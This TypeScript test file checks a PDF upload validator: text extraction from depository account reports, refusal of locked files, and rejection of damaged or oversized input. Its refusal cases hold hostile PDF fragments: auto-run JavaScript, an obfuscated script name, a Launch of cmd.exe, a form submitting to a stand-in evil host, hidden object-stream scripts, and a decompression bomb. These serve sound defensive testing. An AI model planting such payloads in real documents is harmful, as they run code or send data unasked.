import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "@cantoo/pdf-lib";
import { expect, it } from "vitest";
import { Refusal } from "../../lib/contract/errors.ts";
import { pdf } from "../../scripts/sandbox/files.ts";
import { acceptFile } from "./accept.ts";

const accept = (bytes: Uint8Array) => acceptFile(bytes, { field: "file", types: ["application/pdf"] });

function refusalOf(bytes: Uint8Array): unknown {
  try {
    return accept(bytes);
  } catch (cause) {
    return cause instanceof Refusal ? cause.fields : cause;
  }
}

const bytesOf = (text: string) => Uint8Array.from(Buffer.from(text, "latin1"));
const joined = (...parts: readonly Uint8Array[]) => Uint8Array.from(Buffer.concat(parts));
const stream = (about: string, content: Uint8Array) =>
  `<< ${about} /Length ${content.length} >>\nstream\n${Buffer.from(content).toString("latin1")}\nendstream`;

it.each([true, false])("reads the plain letters of a page, deflated: %s", (isDeflated) => {
  const bytes = pdf(["Client Master Report", "BO ID (16 digits): 1208160012345678"], { isDeflated });
  expect(accept(bytes)).toEqual({
    type: "application/pdf",
    bytes,
    text: expect.stringContaining("Client Master Report\nBO ID (16 digits): 1208160012345678"),
  });
});

it("reads what a common program has written, its letters in hexadecimal", async () => {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage().drawText("DP ID: IN300394 Client ID: 12345678", { font });
  expect(accept(await document.save()).text).toContain("DP ID: IN300394 Client ID: 12345678");
});

it("joins the parts of a line that is set with gaps, and tells words by them", () => {
  const content = bytesOf("BT [(BO) -600 (ID) -300 (12) 20 (081600) -10 (12345678)] TJ ET");
  expect(accept(pdf([], { objects: [stream("", content)] })).text).toContain("BO ID 1208160012345678");
});

it("finds nothing in a font with codes of its own, and says nothing wrong", () => {
  const content = bytesOf("BT <000100020003000400050006> Tj ET");
  expect(accept(pdf([], { objects: [stream("", content)] })).text).not.toMatch(/\d/);
});

it("needs no password", () => {
  expect(refusalOf(pdf(["secret"], { trailer: "/Encrypt 6 0 R", objects: ["<< /Filter /Standard >>"] }))).toEqual({
    file: "FILE_LOCKED",
  });
});

it.each([
  ["a script", { catalogue: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" }],
  ["a script that hides its name", { catalogue: "/OpenAction << /S /J#61vaScr#69pt /JS (x) >>" }],
  ["a program to start", { objects: ["<< /S /Launch /F (cmd.exe) >>"] }],
  ["an attachment", { catalogue: "/Names << /EmbeddedFiles 6 0 R >>" }],
  ["a form that sends", { objects: ["<< /S /SubmitForm /F (https://evil.example) >>"] }],
  [
    "a script among deflated objects",
    { objects: [stream("/Type /ObjStm /Filter /FlateDecode", deflateSync("<< /S /JavaScript /JS (x) >>"))] },
  ],
  ["a script behind an opening bracket", { objects: ["<< /Note (>>\nstream\n) /S /JavaScript >>"] }],
])("is refused for %s", (_, change) => {
  expect(refusalOf(pdf(["Client Master Report"], change))).toEqual({ file: "FILE_ACTIVE" });
});

const bomb = deflateSync(new Uint8Array(64 * 1024 * 1024));

it.each([
  ["cut short", pdf(["a"]).subarray(0, 300)],
  ["with another file behind its end", joined(pdf(["a"]), bytesOf("PK\x03\x04"))],
  ["of its magic alone", bytesOf("%PDF-")],
  ["of no version", bytesOf("%PDF-x\n%%EOF")],
  ["that bursts when it is inflated", pdf([], { objects: [stream("/Filter /FlateDecode", bomb)] })],
  ["of very many streams", pdf([], { objects: new Array(2_001).fill(stream("", bytesOf("x"))) })],
  [
    "whose objects cannot be looked at",
    pdf([], { objects: [stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", bytesOf("00>"))] }),
  ],
])("%s is damaged", (_, bytes) => {
  expect(refusalOf(bytes)).toEqual({ file: "FILE_DAMAGED" });
});

it.each([
  ["brackets that never close", "(".repeat(400_000)],
  ["brackets far apart", `(${"a".repeat(200_000)}`.repeat(4)],
  ["escapes without end", `(${"\\".repeat(400_001)}`],
  ["one string without end", `(${"a".repeat(1_000_000)}) Tj`],
  ["numbers without end", "1".repeat(1_000_000)],
])("bears %s", (_, content) => {
  const began = Date.now();
  expect(accept(pdf([], { objects: [stream("", bytesOf(`BT ${content} ET`))] })).type).toBe("application/pdf");
  expect(Date.now() - began).toBeLessThan(2_000);
});
